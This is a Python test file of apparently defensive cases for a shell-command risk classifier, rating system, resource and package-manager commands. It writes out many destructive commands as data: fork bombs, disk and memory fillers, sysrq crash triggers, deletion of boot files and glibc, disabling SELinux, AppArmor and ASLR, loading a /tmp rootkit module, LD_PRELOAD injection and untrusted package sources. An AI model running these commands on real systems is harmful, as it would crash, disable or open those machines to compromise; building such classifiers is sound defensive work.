"""A case table for round 11's system share: the machine's state (power, targets, vital units,
kernel settings and modules, the boot loader, the clock, mandatory access control, swap, macOS
equivalents), exhausting processes, memory, disk and inodes, and package managers (vital
packages, unsigned or insecure sources, downgrades and holds that block security updates).

Written from what each command does, before the rules were read or changed, trying tools,
options and spellings the earlier tables did not. Dangerous cases must reach at least their
level; near misses (reads, checks, dry runs, narrow targets) must stay at or below theirs.
"""

from __future__ import annotations

import pytest

from tests.safety_table import CRITICAL, HIGH, MODERATE, SAFE, reaches, stays_within
from tui.core.safety import RiskLevel

# -- power: shutdown, reboot, halt and poweroff in other spellings ---------------------------

POWER = [
    ("sudo shutdown --poweroff now", HIGH),
    ("sudo shutdown -H now", HIGH),
    ("sudo shutdown --reboot +1 'maintenance'", HIGH),
    ("sudo shutdown -h 23:00", HIGH),
    ("sudo /usr/sbin/reboot", HIGH),
    ("sudo systemctl poweroff -i", HIGH),
    ("systemctl halt --force", HIGH),
    ("sudo systemctl soft-reboot", HIGH),
    ("sudo systemctl reboot --force --force", CRITICAL),
    ("sudo systemctl poweroff -ff", CRITICAL),
    ("busybox reboot", HIGH),
    ("sudo busybox poweroff -f", HIGH),
    ("sudo openrc-shutdown -p now", HIGH),
    ("sudo telinit 6", HIGH),
    ("telinit S", HIGH),
    ("make install && sudo reboot", HIGH),
    ("sleep 600; sudo poweroff", HIGH),
    ("nohup sh -c 'sleep 5 && reboot' &", HIGH),
    ("ssh web1 sudo shutdown -r now", HIGH),
    ("sudo sh -c 'sync; poweroff'", HIGH),
    (
        "busctl call org.freedesktop.login1 /org/freedesktop/login1 "
        "org.freedesktop.login1.Manager Reboot b false",
        HIGH,
    ),
    ("gnome-session-quit --power-off --force", HIGH),
    ("xfce4-session-logout --halt", HIGH),
    ("sudo launchctl reboot userspace", HIGH),
    ("osascript -e 'tell application \"Finder\" to restart'", HIGH),
    ("echo b | sudo tee /proc/sysrq-trigger", CRITICAL),
    ("echo o > /proc/sysrq-trigger", CRITICAL),
    ("sudo sh -c 'echo c > /proc/sysrq-trigger'", CRITICAL),
    ("printf c | sudo tee /proc/sysrq-trigger", CRITICAL),
    ("sudo bash -c 'echo 1 > /proc/sys/kernel/sysrq; echo b > /proc/sysrq-trigger'", CRITICAL),
]
POWER_BENIGN = [
    ("sudo shutdown -k now", MODERATE),
    ("last -x shutdown", SAFE),
    ("uptime -s", SAFE),
    ("journalctl --list-boots", SAFE),
    ("journalctl -b -1 -e", SAFE),
    ("systemctl status reboot.target", SAFE),
    ("echo 'remember to reboot'", SAFE),
    ("grep -i reboot /var/log/syslog", SAFE),
    ("systemctl hibernate", MODERATE),
    ("sudo pmset sleepnow", MODERATE),
    ("sudo launchctl print system", SAFE),
    ("needs-restarting -r", SAFE),
    ("gnome-session-quit --logout", MODERATE),
    ("sudo openrc-shutdown --dry-run -p now", SAFE),
    ("ls /var/run/reboot-required", SAFE),
]

# -- targets and vital units -------------------------------------------------------------

UNITS = [
    ("systemctl isolate runlevel1.target", HIGH),
    ("sudo systemctl mask systemd-journald.service", HIGH),
    ("sudo systemctl mask --now ssh.service", HIGH),
    ("sudo systemctl disable --now sshd", HIGH),
    ("sudo systemctl mask systemd-logind", HIGH),
    ("sudo systemctl disable --now systemd-networkd", HIGH),
    ("sudo systemctl mask getty.target", HIGH),
    ("sudo systemctl mask systemd-udevd.service", HIGH),
]
UNITS_BENIGN = [
    ("systemctl is-enabled sshd", SAFE),
    ("systemctl list-unit-files --state=masked", SAFE),
    ("systemctl cat systemd-journald.service", SAFE),
    ("sudo systemctl unmask docker.service", MODERATE),
    ("sudo systemctl mask bluetooth.service", MODERATE),
    ("sudo systemctl disable --now cups", MODERATE),
]

# -- kernel settings, modules, the boot loader ----------------------------------------------

KERNEL = [
    ("sudo sysctl kernel.randomize_va_space=0", HIGH),
    ("sudo sysctl -w kernel.unprivileged_bpf_disabled=0", HIGH),
    ("sudo sysctl -w kernel.core_pattern='|/tmp/x'", HIGH),
    ("echo '|/tmp/h %p' | sudo tee /proc/sys/kernel/core_pattern", HIGH),
    ("echo 1 | sudo tee /proc/sys/kernel/modules_disabled", HIGH),
    ("sudo rmmod -f ext4", HIGH),
    ("sudo modprobe -r nvme", HIGH),
    ("sudo modprobe -r -f iwlwifi", HIGH),
    ("sudo rmmod e1000e", HIGH),
    ("sudo insmod /tmp/rootkit.ko", HIGH),
    ("sudo insmod /dev/shm/.m.ko", HIGH),
    ("echo 'blacklist nvme' | sudo tee /etc/modprobe.d/bl.conf", HIGH),
    ("echo 'install ext4 /bin/false' | sudo tee -a /etc/modprobe.d/x.conf", HIGH),
    ("sudo grub-install /dev/sdb", HIGH),
    ("sudo rm -rf /boot/grub", CRITICAL),
    ("sudo rm /boot/vmlinuz-*", CRITICAL),
    ("sudo rm -f /boot/initrd.img-$(uname -r)", CRITICAL),
    ("sudo grubby --update-kernel=ALL --args='selinux=0'", HIGH),
    ("sudo grubby --remove-kernel=/boot/vmlinuz-$(uname -r)", HIGH),
    (
        "echo 'GRUB_CMDLINE_LINUX_DEFAULT=\"apparmor=0 mitigations=off\"' "
        "| sudo tee -a /etc/default/grub",
        HIGH,
    ),
    ("sudo kernelstub -a 'mitigations=off'", HIGH),
]
KERNEL_BENIGN = [
    (
        "sudo sysctl -w 'kernel.core_pattern=|/usr/lib/systemd/systemd-coredump %P %u %g %s %t'",
        MODERATE,
    ),
    ("modinfo nvme", SAFE),
    ("sudo modprobe -n -v nvidia", MODERATE),
    ("sudo modprobe vboxdrv", MODERATE),
    ("sudo modprobe loop", MODERATE),
    ("sudo rmmod pcspkr", MODERATE),
    ("sudo depmod -a", MODERATE),
    ("grep GRUB_CMDLINE /etc/default/grub", SAFE),
    ("sudo update-initramfs -u", MODERATE),
    ("sudo mkinitcpio -P", MODERATE),
    ("ls -l /boot", SAFE),
    ("cat /proc/cmdline", SAFE),
]

# -- clock, mandatory access control, swap, macOS protections ------------------------------

PROTECTIONS = [
    ("sudo hwclock --set --date '2000-01-01'", MODERATE),
    ("sudo setenforce Permissive", HIGH),
    ("sudo sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config", HIGH),
    ("sudo systemctl disable --now apparmor.service", HIGH),
    ("sudo aa-teardown", HIGH),
    ("sudo aa-complain /etc/apparmor.d/*", HIGH),
    ("sudo aa-disable /etc/apparmor.d/usr.sbin.cupsd", MODERATE),
    ("sudo swapoff -av", HIGH),
    ("sudo swapoff --all --verbose", HIGH),
]
PROTECTIONS_BENIGN = [
    ("date -d '2001-01-01' +%s", SAFE),
    ("sudo hwclock --show", SAFE),
    ("sudo aa-enforce /etc/apparmor.d/usr.sbin.nginx", MODERATE),
    ("sudo setsebool -P httpd_can_network_connect 1", MODERATE),
    ("sudo nvram boot-args='-v'", MODERATE),
    ("sudo aa-complain /etc/apparmor.d/usr.sbin.nginx", MODERATE),
    ("sudo systemctl reboot -f", HIGH),
]

# -- fork bombs, process floods, cpu burners --------------------------------------------------

FORKS = [
    ("python3 -c 'import os; [os.fork() for _ in iter(int, 1)]'", CRITICAL),
    ("zsh -c ':(){ :|:& };:'", CRITICAL),
    ("sh -c 'f(){ f | f & }; f'", CRITICAL),
    ("while true; do bash & done", CRITICAL),
    ("while :; do sleep 1000 & done", CRITICAL),
    ("seq 100000 | xargs -P0 -I{} sleep 1000", HIGH),
    ("sudo chrt -f 99 yes > /dev/null", HIGH),
    ("stress --cpu 64 --io 32 --vm 16 --timeout 0", HIGH),
    ("stress-ng --all 0", HIGH),
    ("stress-ng --sock 0 --timeout 0", HIGH),
    ("stress-ng --bigheap 0", HIGH),
    ("awk 'BEGIN{while(1) system(\"sleep 999 &\")}'", HIGH),
]
FORKS_BENIGN = [
    ("stress-ng --cpu 2 --timeout 60s", MODERATE),
    ("openssl speed -multi 4 sha256", MODERATE),
    ("ps aux | wc -l", SAFE),
    ("for i in 1 2 3; do echo $i; done", SAFE),
    ('while read -r line; do echo "$line"; done < list.txt', SAFE),
    ("perl -e 'print \"a\" x 80'", MODERATE),
    ("python3 -c 'import os; print(os.getpid())'", MODERATE),
]

# -- memory, disk and inode fillers, endless streams, limits ---------------------------------

FILLERS = [
    ("head -c 100G /dev/zero > big.bin", HIGH),
    ("sudo dd if=/dev/zero of=/var/fill", CRITICAL),
    ("dd if=/dev/urandom of=~/filler bs=1G count=500", HIGH),
    ("cat /dev/urandom > ~/junk", CRITICAL),
    ("yes 'spam' > ~/out.txt", CRITICAL),
    ("yes | tee /tmp/a", HIGH),
    ("cat /dev/zero | gzip -c > z.gz", HIGH),
    ("dd if=/dev/zero of=/dev/shm/x bs=1M count=100000", HIGH),
    ("sudo fallocate -l 200G /var/fill", HIGH),
    ("fallocate -l 2TB /tmp/fill", HIGH),
    ("xfs_mkfile 500g /var/tmp/f", HIGH),
    ("mkfile 500g /tmp/big", HIGH),
    ("python3 -c 'a=[]\nwhile True: a.append(\" \"*10**8)'", HIGH),
    ("python3 -c \"x = ' ' * 10**12\"", HIGH),
    ("perl -e '$x = \"a\" x 10**12'", HIGH),
    ("node -e 'const a=[]; for(;;) a.push(new Array(1e7).fill(0))'", HIGH),
    ("stress --vm 16 --vm-bytes 4G --timeout 0", HIGH),
    ("sort /dev/zero", HIGH),
    ("for i in $(seq 1 100000000); do touch f$i; done", HIGH),
    ("seq 1 50000000 | xargs touch", HIGH),
    ("while :; do mktemp; done", HIGH),
    ("echo '* hard nofile 10' | sudo tee -a /etc/security/limits.conf", HIGH),
    ("echo '* - maxlogins 0' | sudo tee -a /etc/security/limits.conf", HIGH),
    ("sudo prlimit --pid 1 --nofile=0:0", HIGH),
]
FILLERS_BENIGN = [
    ("head -c 1M /dev/urandom > key.bin", MODERATE),
    ("head -c 1G /dev/zero | sha256sum", MODERATE),
    ("truncate -s 10T sparse.img", MODERATE),
    ("truncate -s 0 log.txt", MODERATE),
    ("seq 1 10 | xargs -n1 touch", MODERATE),
    ("for i in 1 2 3; do touch f$i; done", MODERATE),
    ("python3 -c 'print(\" \" * 100)'", MODERATE),
    (": > out.log", MODERATE),
    ("df -h /", SAFE),
    ("du -sh ~", SAFE),
    ("free -m", SAFE),
    ("gzip -dc backup.tar.gz | tar -tvf -", SAFE),
    ("unzip -t archive.zip", SAFE),
    ("xz -t file.xz", SAFE),
    ("cat /etc/security/limits.conf", SAFE),
    ("prlimit --pid $$", SAFE),
    ("prlimit --nofile=4096 make", MODERATE),
    ("sudo prlimit --pid 1234 --nofile=65536", MODERATE),
    ("sudo prlimit --nofile=1024:1024 --pid 1", MODERATE),
    ("sudo pacman -Syu --ignore nvidia-dkms,linux-headers", MODERATE),
    ("echo '* hard core 0' | sudo tee -a /etc/security/limits.conf", MODERATE),
    ("stress-ng --cpu 0 --timeout 60s", MODERATE),
]

# -- packages: vital removals, cascades, downgrades ---------------------------------------------

PACKAGES_REMOVED = [
    ("sudo apt-get purge --auto-remove -y network-manager", HIGH),
    ("sudo apt-get remove -y ubuntu-desktop && sudo apt-get autoremove --purge -y", HIGH),
    ("sudo apt-get purge -y 'gnome*'", HIGH),
    ("sudo apt-get remove --purge -y xserver-xorg-core", HIGH),
    ("sudo apt-get purge -y grub-pc grub-common", CRITICAL),
    ("sudo apt-get purge -y linux-image-generic linux-image-$(uname -r)", HIGH),
    ("sudo apt-get remove -y --purge initramfs-tools", HIGH),
    ("sudo dnf remove -y kernel-core", CRITICAL),
    ("sudo yum remove -y shadow-utils", CRITICAL),
    ("sudo apt-get purge -y login passwd", HIGH),
    ("sudo dpkg --purge --force-depends libpam-modules", CRITICAL),
    ("sudo dpkg -r --force-all perl-base", CRITICAL),
    ("sudo zypper rm -y --clean-deps systemd", CRITICAL),
    ("sudo zypper rm -u glibc", CRITICAL),
    ("sudo pacman -Rcns --noconfirm glibc", CRITICAL),
    ("sudo pacman -Rc systemd", CRITICAL),
    ("sudo emerge --unmerge sys-libs/glibc", CRITICAL),
    ("sudo emerge -C sys-apps/portage", CRITICAL),
    ("sudo rpm -e --nodeps --noscripts openssl-libs", CRITICAL),
    ("sudo port -f uninstall installed", HIGH),
    ("brew uninstall --force $(brew list)", HIGH),
    ("sudo flatpak uninstall --all -y", HIGH),
    ("sudo apt-get install -y --allow-downgrades openssl=1.1.1f-1ubuntu2", HIGH),
    ("sudo dnf downgrade -y openssl", HIGH),
    ("sudo yum downgrade -y glibc", HIGH),
    ("sudo zypper install --oldpackage openssl-1.1.0", HIGH),
    ("sudo pacman -U /var/cache/pacman/pkg/glibc-2.30-1-x86_64.pkg.tar.zst", HIGH),
    ("sudo pip install --break-system-packages --upgrade setuptools pip", HIGH),
    ("sudo pip uninstall -y --break-system-packages requests urllib3", HIGH),
]

# -- packages: unsigned or insecure sources, checks turned off ----------------------------------

SOURCES = [
    ("sudo apt-get install --allow-unauthenticated -y foo", HIGH),
    ("sudo apt-get -y --force-yes install foo", HIGH),
    ("sudo add-apt-repository 'deb http://203.0.113.7/ubuntu jammy main'", HIGH),
    ("curl -fsSL http://repo.example.com/key.gpg | sudo apt-key add -", HIGH),
    ("sudo dnf install -y --nogpgcheck ./pkg.rpm", HIGH),
    ("sudo yum --nogpgcheck install http://example.com/x.rpm", HIGH),
    ("sudo rpm -ivh --nosignature --nodigest pkg.rpm", HIGH),
    ("sudo zypper ar -G http://example.com/repo repo", HIGH),
    ("sudo zypper addrepo --no-gpgcheck https://example.com/repo x", HIGH),
    ("sudo pacman -Syu --overwrite '*'", HIGH),
    ("sudo apk add --allow-untrusted ./foo.apk", HIGH),
    ("sudo flatpak remote-modify --no-gpg-verify flathub", HIGH),
    ("sudo dpkg -i --force-overwrite foo.deb", HIGH),
    (
        "pip install --trusted-host pypi.example.com -i http://pypi.example.com/simple foo",
        HIGH,
    ),
    ("pip install --extra-index-url http://10.0.0.5/simple internal-lib", HIGH),
    ("pip config set global.trusted-host evil.example.com", HIGH),
    ("npm config set registry http://npm.example.com/", HIGH),
]

# -- packages: holds and switches that block security updates -------------------------------

HOLDS = [
    ("sudo apt-mark hold $(dpkg --get-selections | cut -f1)", HIGH),
    ("echo 'openssh-server hold' | sudo dpkg --set-selections", HIGH),
    ("sudo sed -i 's/^deb/#deb/' /etc/apt/sources.list", HIGH),
    ("sudo rm -rf /etc/apt/sources.list.d /etc/apt/sources.list", HIGH),
    ("sudo rm -rf /etc/apt/trusted.gpg.d", HIGH),
    ("sudo yum-config-manager --disable '*'", HIGH),
    ("sudo sed -i '/^deb/d' /etc/apt/sources.list", HIGH),
    ("sudo sed -i 's/^/#/' /etc/apt/sources.list", HIGH),
    ("sudo sed -i '/^deb/s/^/#/' /etc/apt/sources.list", HIGH),
    ("mkfile 80g /tmp/f", HIGH),
    ("sudo pacman-key --lsign-key 3056513887B78AEB", HIGH),
    ("sudo dpkg -i /var/cache/apt/archives/openssl_3.0.2-0ubuntu1_amd64.deb", HIGH),
]

# Earlier tables (test_safety_g6_sys, test_safety_pkg2) rate every new system-wide signing key
# HIGH whatever its host; telling a vendor's official key apart would need a list of vendors.
_VENDOR_KEY = "a new system-wide signing key is HIGH in earlier tables, whatever the vendor"

# -- packages: searches, shows, lists, simulations, ordinary changes ---------------------------

PACKAGES_BENIGN = [
    ("apt-get -s remove libc6", SAFE),
    ("sudo apt-get purge -y --simulate systemd", SAFE),
    ("dnf remove --assumeno glibc", SAFE),
    ("pacman -Rp glibc", SAFE),
    ("apk del --simulate musl", SAFE),
    ("dpkg --dry-run -r bash", SAFE),
    ("emerge -pv --depclean", SAFE),
    ("npm uninstall --dry-run lodash", SAFE),
    ("apt search nginx", SAFE),
    ("apt-cache rdepends libc6", SAFE),
    ("apt show systemd", SAFE),
    ("apt list --installed | grep ssl", SAFE),
    ("dpkg -l | grep linux-image", SAFE),
    ("rpm -V openssl", SAFE),
    ("rpm -q --whatrequires glibc", SAFE),
    ("rpm -qa 'gpg-pubkey*'", SAFE),
    ("yum history", SAFE),
    ("dnf check-update", MODERATE),
    ("zypper se -i glibc", SAFE),
    ("pacman -Ss firefox", SAFE),
    ("pacman -Qdt", SAFE),
    ("pacman -Qkk glibc", SAFE),
    ("pacman-key --list-keys", SAFE),
    ("apk info -a musl", SAFE),
    ("apk search -v curl", SAFE),
    ("snap info core22", SAFE),
    ("flatpak list --app", SAFE),
    ("flatpak remotes -d", SAFE),
    ("brew deps --tree --installed", SAFE),
    ("port installed", SAFE),
    ("pip index versions requests", SAFE),
    ("npm outdated", SAFE),
    ("grep -r gpgcheck /etc/yum.repos.d/", SAFE),
    ("sudo apt-get install -y --no-install-recommends curl", MODERATE),
    ("sudo apt-mark hold nvidia-driver-535", MODERATE),
    ("sudo apt-get remove -y --purge 'libreoffice*'", MODERATE),
    ("sudo dnf remove -y cowsay", MODERATE),
    ("sudo pacman -Scc --noconfirm", MODERATE),
    ("sudo zypper rm -u vlc", MODERATE),
    ("sudo apk del curl", MODERATE),
    ("flatpak uninstall -y org.gimp.GIMP", MODERATE),
    ("sudo snap refresh --hold=24h firefox", MODERATE),
    ("sudo dnf install -y epel-release", MODERATE),
    pytest.param(
        "sudo rpm --import https://packages.microsoft.com/keys/microsoft.asc",
        MODERATE,
        marks=pytest.mark.xfail(reason=_VENDOR_KEY, strict=True),
    ),
    pytest.param(
        "curl -fsSL https://download.docker.com/linux/ubuntu/gpg "
        "| sudo gpg --dearmor -o /etc/apt/keyrings/docker.gpg",
        MODERATE,
        marks=pytest.mark.xfail(reason=_VENDOR_KEY, strict=True),
    ),
    ("sudo pacman-key --populate archlinux", MODERATE),
    ("pacman-key -f 3056513887B78AEB", SAFE),
    ("sudo pacman -U /var/cache/pacman/pkg/firefox-120.0-1-x86_64.pkg.tar.zst", MODERATE),
    ("sudo port uninstall inactive", MODERATE),
    ("sudo apt-get remove -y gnome-games", MODERATE),
    ("sudo apt-get purge -y 'gnome-games*'", MODERATE),
    ("sudo sed -i '/^deb cdrom/d' /etc/apt/sources.list", MODERATE),
    ("sudo sed -i 's/^#deb-src/deb-src/' /etc/apt/sources.list", MODERATE),
    ("sudo sed -i '/^deb-src/s/^/#/' /etc/apt/sources.list", MODERATE),
    ("sudo sed -i '/^deb cdrom/s/^/# /' /etc/apt/sources.list", MODERATE),
    ("truncate -s 80G disk.img", MODERATE),
    ("xfs_mkfile 1g /var/tmp/f", MODERATE),
    ("sudo sed -i 's/^deb/#deb/' /etc/apt/sources.list.d/google-chrome.list", MODERATE),
    ("sudo flatpak remote-modify --enable flathub", MODERATE),
    ("emerge --pretend --update --deep @world", SAFE),
    ("python3 -m venv .venv && .venv/bin/pip install -r requirements.txt", MODERATE),
    ("npm install --save-dev eslint", MODERATE),
    ("sudo dnf upgrade --refresh -y", MODERATE),
    ("sudo pacman -Syu --noconfirm", MODERATE),
    ("sudo zypper dup", MODERATE),
    ("sudo apk upgrade --available", MODERATE),
    ("brew upgrade --greedy", MODERATE),
    ("sudo port selfupdate", MODERATE),
    ("sudo apt-get install --reinstall -y openssl", MODERATE),
    ("sudo apt-get install -y ./google-chrome-stable_current_amd64.deb", MODERATE),
    ("sudo dpkg -i ./code_1.85.deb", MODERATE),
    ("sudo emerge --depclean", MODERATE),
]

# == a second pass, written after the first fixes and before any rule for it was changed:
# other wrappers (doas, env, ssh, xargs, here-strings), other kernels of the same mechanisms.

# A write to /proc/sysrq-trigger is rated by the path alone, wherever it comes from (a
# redirection, tee, dd); the letter written (s: sync, w: list blocked tasks) is not read.
_SYSRQ_LETTER = "writes to /proc/sysrq-trigger are rated by the path, not by the letter"

SECOND_SYSTEM = [
    ("doas reboot", HIGH),
    ("env SYSTEMD_LOG_LEVEL=debug systemctl poweroff", HIGH),
    ("sudo /bin/systemctl isolate rescue.target", HIGH),
    ("sudo systemctl start halt.target", HIGH),
    ("sudo systemctl --no-block reboot", HIGH),
    ("sudo systemctl reboot --firmware-setup", HIGH),
    ("sudo systemctl kill -s SIGKILL systemd-journald", HIGH),
    ("sudo systemctl stop sshd.socket ssh.service", HIGH),
    ("sudo systemctl enable debug-shell.service", HIGH),
    ("sudo systemctl start debug-shell", HIGH),
    ("printf 'kernel.randomize_va_space = 0\n' | sudo tee /etc/sysctl.d/99-aslr.conf", HIGH),
    ("echo 'vm.panic_on_oom=1' | sudo tee -a /etc/sysctl.conf && sudo sysctl -p", HIGH),
    ("sudo sysctl -w net.ipv4.tcp_syncookies=0", HIGH),
    ("sudo sysctl -w kernel.perf_event_paranoid=-1", HIGH),
    ("sudo modprobe --remove --force xfs", HIGH),
    ("sudo rmmod --force nf_tables", HIGH),
    ("sudo insmod ~/Downloads/driver.ko", HIGH),
    ("sudo rm /boot/efi/EFI/ubuntu/grubx64.efi", CRITICAL),
    ("sudo mv /boot/vmlinuz-6.5.0-14-generic /tmp/", HIGH),
    ("sudo truncate -s 0 /boot/grub/grub.cfg", HIGH),
    ("sudo efibootmgr --delete-bootnum --bootnum 0000", HIGH),
    ("sudo rm -rf /sys/firmware/efi/efivars/*", CRITICAL),
    ("sudo update-grub && sudo grub-reboot 2 && sudo reboot", HIGH),
    ("sudo date --set='2030-01-01'", MODERATE),
    ("echo 0 | sudo tee /sys/fs/selinux/enforce", HIGH),
    ("sudo sed -i 's/^SELINUX=.*/SELINUX=permissive/' /etc/selinux/config", HIGH),
    ("sudo grubby --update-kernel ALL --args enforcing=0", HIGH),
    ("sudo setenforce 0 && sudo systemctl restart httpd", HIGH),
    ("sudo systemctl mask apparmor", HIGH),
    ("sudo service apparmor stop", HIGH),
    ("sudo /etc/init.d/apparmor teardown", HIGH),
    ("sudo apparmor_parser -R /etc/apparmor.d/usr.sbin.mysqld", MODERATE),
    ("sudo semanage permissive -a httpd_t", MODERATE),
    ("sudo swapoff -a && sudo rm /swapfile", HIGH),
    (
        "sudo defaults write /Library/Preferences/com.apple.SoftwareUpdate "
        "CriticalUpdateInstall -bool false",
        HIGH,
    ),
    (
        "sudo launchctl unload -w /System/Library/LaunchDaemons/com.apple.softwareupdated.plist",
        HIGH,
    ),
    ("csrutil authenticated-root disable", HIGH),
    ("sudo kextunload -b com.apple.driver.AppleHDA", HIGH),
    ("sudo kextload /tmp/x.kext", HIGH),
    ("sudo kmutil unload -b com.apple.filesystems.apfs", HIGH),
]
SECOND_SYSTEM_BENIGN = [
    pytest.param(
        "echo s | sudo tee /proc/sysrq-trigger",
        MODERATE,
        marks=pytest.mark.xfail(reason=_SYSRQ_LETTER, strict=True),
    ),
    pytest.param(
        "echo w | sudo tee /proc/sysrq-trigger",
        MODERATE,
        marks=pytest.mark.xfail(reason=_SYSRQ_LETTER, strict=True),
    ),
    ("sudo sysctl -w fs.inotify.max_user_watches=524288", MODERATE),
    ("sudo sysctl -w vm.swappiness=0", MODERATE),
    ("sudo sysctl -w kernel.nmi_watchdog=0", MODERATE),
    ("sudo grub-mkconfig -o /boot/grub/grub.cfg", MODERATE),
    ("sudo timedatectl set-local-rtc 1", MODERATE),
    ("sudo ntpdate pool.ntp.org", MODERATE),
    ("sudo touch /.autorelabel", MODERATE),
    ("sudo restorecon -Rv /var/www", MODERATE),
    ("sudo chcon -R -t httpd_sys_content_t /srv/www", MODERATE),
    ("sudo systemsetup -setrestartpowerfailure on", MODERATE),
    ("sudo pmset -a disablesleep 1", MODERATE),
    ("kextstat", SAFE),
    ("sudo launchctl kickstart -k system/com.apple.audio.coreaudiod", MODERATE),
    ("sudo systemctl reset-failed", MODERATE),
    ("sudo systemctl mask --now systemd-networkd-wait-online.service", MODERATE),
    ("sudo systemctl disable NetworkManager-wait-online.service", MODERATE),
    (
        "sudo systemctl mask sleep.target suspend.target hibernate.target hybrid-sleep.target",
        MODERATE,
    ),
    ("sudo systemctl mask ctrl-alt-del.target", MODERATE),
    ("sudo systemctl edit --full sshd", MODERATE),
    ("sudo kexec -l /boot/vmlinuz --initrd=/boot/initrd.img --reuse-cmdline", MODERATE),
    ("sudo kexec -u", MODERATE),
    ("softwareupdate --list", SAFE),
    (
        "sudo defaults write /Library/Preferences/com.apple.SoftwareUpdate "
        "AutomaticCheckEnabled -bool true",
        MODERATE,
    ),
    ("echo 1 | sudo tee /sys/fs/selinux/enforce", MODERATE),
    ("sudo systemctl start getty@tty2.service", MODERATE),
]

SECOND_RESOURCES = [
    ("perl -MPOSIX -e '1 while fork()'", CRITICAL),
    ("python -c 'while 1: __import__(\"os\").fork()'", CRITICAL),
    ("python3 -c 'import os, itertools; [os.fork() for _ in itertools.count()]'", CRITICAL),
    ("bash -c 'b(){ b|b& }; b'", CRITICAL),
    ("echo 'f(){ f|f& };f' | bash", CRITICAL),
    ("until false; do nohup sleep 1000 & done", CRITICAL),
    ("for ((;;)); do sh -c 'sleep 9999' & done", CRITICAL),
    ("while sleep 0; do xterm & done", HIGH),
    ("yes | xargs -P 0 -n 1 sleep 1000", HIGH),
    ("seq 1000000 | parallel -j0 sleep 100", HIGH),
    ("ruby -e 'loop { Process.spawn(\"sleep 999\") }'", HIGH),
    ('python3 -c \'import subprocess\nwhile True: subprocess.Popen(["sleep", "1000"])\'', HIGH),
    ("echo 'int main(){while(1)fork();}' > b.c && cc b.c -o b && ./b", HIGH),
    ("docker run --rm busybox sh -c ':(){ :|:& };:'", HIGH),
    ("ssh host ':(){ :|:& };:'", CRITICAL),
    ("stress-ng --cpu 0 --cpu-method all -t 0", HIGH),
    ("stress-ng --vm 2 --vm-bytes 200%", HIGH),
    ("stress-ng --iomix 0 -t 0", HIGH),
    ("dd if=/dev/zero of=~/bigfile bs=1M count=1000000", HIGH),
    ("dd if=/dev/zero of=/var/log/fill status=progress", CRITICAL),
    ("pv /dev/zero > /tmp/zero.bin", HIGH),
    ("openssl rand -out big.bin 100000000000", HIGH),
    ("head -c 1T /dev/urandom > /tmp/r", HIGH),
    ("cp /dev/zero /tmp/fill", HIGH),
    ("tee < /dev/zero /tmp/a /tmp/b > /dev/null", HIGH),
    ("sudo shutdown > /dev/null -h now", HIGH),
    ("rm 2>/dev/null -rf ~", CRITICAL),
    ("yes 2>/dev/null > /tmp/fill", HIGH),
    ("base64 /dev/urandom > ~/noise.txt", HIGH),
    ("od /dev/urandom > dump.txt", HIGH),
    ("while true; do echo spam >> log.txt; done", HIGH),
    ("while :; do cat /var/log/syslog >> /tmp/big; done", HIGH),
    ("fallocate -l $(df --output=avail -B1 / | tail -1) /fill", HIGH),
    ('python3 -c \'open("/tmp/f", "w").write("x" * 10**12)\'', HIGH),
    ("perl -e 'print \"A\" x 1e12' > big", HIGH),
    ("ruby -e 'a=[]; loop { a << \"x\" * 1_000_000 }'", HIGH),
    ("awk 'BEGIN{while(1) a[i++]=i}'", HIGH),
    ("for i in {1..10000000}; do mkdir d$i; done", HIGH),
    ("seq 1e8 | xargs -n 1000 touch", HIGH),
    ('while true; do touch "$(date +%s%N)"; done', HIGH),
    ("echo '* soft nproc 1' | sudo tee -a /etc/security/limits.conf", HIGH),
    ("echo 'root hard nofile 1' | sudo tee /etc/security/limits.d/root.conf", HIGH),
    ("sudo sed -i 's/^#DefaultTasksMax=.*/DefaultTasksMax=1/' /etc/systemd/system.conf", HIGH),
    ("sudo systemctl set-property user.slice TasksMax=1", HIGH),
    ("sudo systemctl set-property user-1000.slice MemoryMax=1M", HIGH),
    ("echo 'DefaultEnvironment=LD_PRELOAD=/tmp/x.so' | sudo tee -a /etc/systemd/system.conf", HIGH),
]
SECOND_RESOURCES_BENIGN = [
    ("stress-ng --cpu 1 --timeout 5s --metrics-brief", MODERATE),
    ("stress-ng --vm 1 --vm-bytes 256M --timeout 30s", MODERATE),
    ("stress-ng --fork 4 --timeout 10s", MODERATE),
    ("sysbench memory --memory-total-size=1G run", MODERATE),
    ("fio --name=test --size=100M --rw=write", MODERATE),
    ("yes > /dev/null &", MODERATE),
    ("cat /dev/urandom | head -c 100 | base64", SAFE),
    ("dd if=/dev/urandom bs=32 count=1 | xxd", SAFE),
    ("tr -dc a-z < /dev/urandom | head -c 16", SAFE),
    ("sleep infinity", MODERATE),
    ("watch -n 1 free -h", SAFE),
    ("xargs -P 4 -n 1 gzip < files.txt", MODERATE),
    ("parallel -j 4 gzip ::: *.log", MODERATE),
    ("seq 5 | xargs -I{} sleep {}", MODERATE),
    ("seq 10 | parallel -j0 echo", MODERATE),
    ("ruby -e 'loop do system(\"date\"); sleep 1 end'", MODERATE),
    ("ruby -e 'loop { pid = Process.spawn(\"make\"); Process.wait(pid) }'", MODERATE),
    ("while sleep 1; do date; done", SAFE),
    ("sudo fallocate -l 32G /swapfile", MODERATE),
    ("head -c 80G /dev/zero | sha256sum", MODERATE),
    ("xxd -l 16 -p /dev/urandom", SAFE),
    ("mkfile -n 10t sparse.img", MODERATE),
    ("echo '* soft nofile 65536' | sudo tee -a /etc/security/limits.conf", MODERATE),
    ("sudo systemctl set-property user-1000.slice CPUQuota=50%", MODERATE),
    ("sudo systemctl set-property docker.service TasksMax=4096", MODERATE),
    ("sudo systemctl set-property user.slice TasksMax=8192", MODERATE),
    ("echo 'DefaultTasksMax=8192' | sudo tee -a /etc/systemd/system.conf", MODERATE),
    ("echo '@audio - memlock unlimited' | sudo tee /etc/security/limits.d/audio.conf", MODERATE),
    ("docker run --rm python:3 python -c 'print(1)'", MODERATE),
    ("seq 10 | xargs -n 1 touch", MODERATE),
    ("openssl rand -out key.bin 32", MODERATE),
    ("dd if=/dev/zero of=/swapfile bs=1M count=32768", MODERATE),
]

SECOND_PACKAGES = [
    ("sudo apt-get -y --allow-remove-essential purge e2fsprogs", HIGH),
    ("sudo apt-get purge -y $(dpkg -l | awk '/^ii/{print $2}')", CRITICAL),
    ("sudo dnf remove -y $(rpm -qa | grep -v kernel)", CRITICAL),
    ("sudo rpm -Uvh --replacepkgs --replacefiles foo.rpm", HIGH),
    ("sudo zypper al 'openssl*'", HIGH),
    ("sudo zypper addlock kernel-default", HIGH),
